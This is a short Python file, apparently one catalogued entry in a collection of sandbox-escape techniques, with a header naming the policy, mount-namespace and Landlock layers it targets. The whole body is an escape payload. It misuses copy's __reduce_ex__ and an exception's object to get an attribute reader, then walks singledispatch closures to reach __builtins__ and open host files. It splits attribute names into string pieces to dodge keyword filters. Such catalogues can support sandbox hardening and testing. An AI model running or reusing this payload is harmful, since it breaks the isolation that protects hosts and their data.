# technique: single dispatch has closed over a module, whose table holds the builtins
# family: A
# severity: H
# layers: policy, mount_namespace, landlock
import copy
import functools

class Deputy:
    def __reduce_ex__(self, protocol):
        return (lambda: object, (), {"x": 1})

def reader():
    """The attribute reader, out of the table that an error carries."""
    try:
        copy.copy(Deputy())
    except AttributeError as e:
        return e.obj["__getattr" + "ibute__"]

def trick():
    read = reader()
    seen, todo = [], [functools.singledispatch(won).register]
    while todo:
        function = todo.pop()
        seen.append(function)
        for cell in read(function, "__clo" + "sure__") or ():
            found = read(cell, "cell_con" + "tents")
            if type(found).__name__ == "function" and found not in seen:
                todo.append(found)
            if type(found).__name__ == "module" and found.__name__ == "types":
                return open_of(vars(found)["__built" + "ins__"])
    raise LookupError("no such cell")

read_host(trick)
